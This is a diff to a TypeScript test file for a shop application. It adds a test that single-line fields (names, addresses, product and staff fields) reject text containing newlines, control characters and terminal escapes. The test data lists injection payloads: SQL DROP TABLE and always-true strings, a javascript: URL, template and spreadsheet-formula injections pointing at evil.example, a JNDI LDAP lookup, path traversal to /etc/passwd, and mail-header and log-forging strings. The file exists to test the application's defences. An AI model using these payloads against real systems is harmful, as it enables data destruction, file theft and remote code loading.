@@ -21,8 +21,6 @@ const texts: Record<string, string> = {
   'letters of four bytes': '𠜎𝒳🐟',
   'spaces of other kinds': 'a\u00a0b\u2003c\u200bd',
   'many marks on one letter': `Z${'\u0351\u0363\u0489'.repeat(20)}`,
-  'lines and tabs': 'one\ntwo\tthree',
-  'signs of control': 'a\u0001b\u001bc\u007fd',
   'a command for the database': `'; DROP TABLE products; DELETE FROM users; --`,
   'a condition that is always true': `' OR '1'='1`,
   'a quote in dollars': '$$; SELECT pg_sleep(9); $$ $1 \u0024{1} %s :name ?',
@@ -33,11 +31,21 @@ const texts: Record<string, string> = {
   'an address that is a script': 'javascript:alert(1)',
   'a template': '{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}',
   'a formula': '=HYPERLINK("http://evil.example","x")',
-  'a line of a log': 'x\r\n{"level":"info","msg":"forged"}',
   'names of objects': '__proto__ constructor toString',
   JSON: '{"$gt":""}',
   'a path': '../../../../etc/passwd',
   'a lookup': '\u0024{jndi:ldap://evil.example/x}',
+}
+
+/** What only a field of several lines takes. */
+const lines: Record<string, string> = {
+  'two lines': 'one\ntwo',
+  'a line of a mail': 'Asha\r\nBcc: all@haat.example',
+  'a line of a log': 'x\r\n{"level":"info","msg":"forged"}',
+  'a tab': 'one\ttwo',
+  'colours of a terminal': 'a\u001b[31mb',
+  'signs of control': 'a\u0001b\u007fc\u0085d',
+  'separators of lines': 'one\u2028two\u2029three',
 }
 
 describe('text', () => {
@@ -72,6 +80,26 @@ describe('text', () => {
     // In the list a seller is not told its steps, nor how a shopper may still pay it.
     const { history: _steps, online: _payment, ...seen } = order!
     expect((await seller.listOrders()).orders[0]).toMatchObject(seen)
+  })
+
+  test.for(Object.entries(lines))('of %s is refused where one line is wanted', async ([, text]) => {
+    const oneLine = {
+      code: 'invalid_input',
+      message: expect.stringMatching(/must be a single line of text$/),
+    }
+    const registration = { email: `line-${++count}@example.com`, password: 'mustard-fields-in-bloom' }
+    await expect(aVisitor(shop).register({ ...registration, name: text })).rejects.toMatchObject(oneLine)
+    await expect(asha.updateProfile({ name: text })).rejects.toMatchObject(oneLine)
+    for (const field of ['firstName', 'lastName', 'street', 'city', 'state', 'country'])
+      await expect(asha.addAddress({ address: anAddress({ [field]: text }) })).rejects.toMatchObject(oneLine)
+    const product = { name: 'Rice', category: 'Grocery', price: 60, offerPrice: 55 }
+    for (const field of ['name', 'weight', 'sku'])
+      await expect(seller.addProduct({ ...product, [field]: text })).rejects.toMatchObject(oneLine)
+    await expect(
+      seller.inviteStaff({ name: text, email: registration.email, role: 'packer' }),
+    ).rejects.toMatchObject(oneLine)
+    const added = await seller.addProduct({ ...product, description: [text] })
+    expect(added.product.description).toEqual([text])
   })
 
   test('composed and in parts are two names, as they were written', async () => {
